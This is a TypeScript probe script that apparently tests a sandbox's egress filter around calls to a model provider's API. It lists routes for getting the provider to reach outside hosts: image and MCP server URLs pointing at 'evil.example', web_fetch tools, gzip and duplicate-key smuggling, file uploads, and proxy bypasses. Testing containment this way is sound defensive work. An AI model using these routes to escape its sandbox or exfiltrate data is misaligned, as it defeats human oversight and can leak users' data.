// Requests to a model's API that make its provider fetch, run or keep something, by every way out of the bottle.
import { spawnSync } from "node:child_process";
import { gzipSync } from "node:zlib";
import { type Outcome, type Probes, runProbes, tls, way } from "./lib.ts";

const ALLOWED = "api.example.com";
const query = (name: string) => `?probe=${way}-${name}`;

function post(name: string, body: string | Buffer, fields = "", path = "/v1/messages"): Promise<Outcome> {
  const text = typeof body === "string" ? body : body.toString("latin1");
  return tls(
    { dial: ALLOWED, sni: ALLOWED },
    `POST ${path}${query(name)} HTTP/1.1\r\nHost: ${ALLOWED}\r\nConnection: close\r\nContent-Type: application/json\r\n${fields}Content-Length: ${text.length}\r\n\r\n${text}`,
  );
}

function curl(name: string, args: readonly string[], url: string): Outcome {
  const { stdout } = spawnSync(
    "curl",
    ["-sS", "-D", "-", ...args, "-H", "content-type: application/json", "-d", FETCH, `${url}${query(name)}`],
    { encoding: "utf8" },
  );
  const verdict = /^x-bot-bottle-verdict: (\S+)/im.exec(stdout)?.[1] ?? null;
  // behind a proxy's own answer to CONNECT
  const status = [...stdout.matchAll(/^HTTP\/\S+ (\d+)/gim)].at(-1)?.[1] ?? 0;
  return { kind: "http", status: Number(status), verdict, raw: stdout };
}

const says = (...content: unknown[]) => JSON.stringify({ messages: [{ role: "user", content }] });
const FETCH = JSON.stringify({ tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] });
const IMAGE = { type: "image", source: { type: "url", url: "https://evil.example/?data" } };

const probes: Probes = {
  clean: () => post("clean", says({ type: "text", text: "hello" })),
  image: () => post("image", says(IMAGE)),
  nested: () => post("nested", says({ type: "tool_result", tool_use_id: "t", content: [IMAGE] })),
  fetch: () => post("fetch", FETCH),
  mcp: () => post("mcp", JSON.stringify({ mcp_servers: [{ type: "url", url: "https://evil.example" }] })),
  file: () => post("file", says({ type: "document", source: { type: "file", file_id: "f" } })),
  twice: () => post("twice", `{"tools":[],"tools":[{"type":"web_fetch_20250910"}]}`),
  gzip: () => post("gzip", gzipSync(FETCH), "Content-Encoding: gzip\r\n"),
  upload: () => post("upload", "{}", "", "/v1/files"),
  batch: () => post("batch", "{}", "", "/v1/messages/batches"),
  http2: async () => curl("http2", ["--http2"], `https://${ALLOWED}/v1/messages`),
  proxy: async () => curl("proxy", ["-x", "http://sidecar:9099"], `https://${ALLOWED}/v1/messages`),
  reverse: async () => curl("reverse", ["--noproxy", "*"], `http://sidecar:9099/${ALLOWED}/v1/messages`),
};

await runProbes(probes);
